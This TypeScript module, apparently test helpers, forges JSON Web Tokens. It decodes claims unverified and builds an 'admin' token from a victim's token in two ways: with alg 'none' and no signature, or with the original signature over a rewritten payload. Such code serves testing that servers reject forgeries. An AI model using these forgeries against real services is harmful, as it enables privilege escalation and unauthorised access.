type Claims = Record<string, unknown>;

/** The claims of a JWT, unverified. */
export function claimsOf(token: string): Claims {
  const [, payload = ''] = token.split('.');
  return JSON.parse(Buffer.from(payload, 'base64url').toString()) as Claims;
}

/** The victim's token with the role `admin` written in, and no signature at all: `alg` says `none`. */
export function unsigned(token: string): string {
  return `${encode({ alg: 'none', typ: 'at+jwt', kid: 'demo-1' })}.${encode(asAdmin(token))}.`;
}

/** The victim's token with the role `admin` written in, under the signature of the original. */
export function tampered(token: string): string {
  const [header = '', , signature = ''] = token.split('.');
  return `${header}.${encode(asAdmin(token))}.${signature}`;
}

function asAdmin(token: string): Claims {
  return { ...claimsOf(token), realm_access: { roles: ['admin'] } };
}

function encode(part: Claims): string {
  return Buffer.from(JSON.stringify(part)).toString('base64url');
}
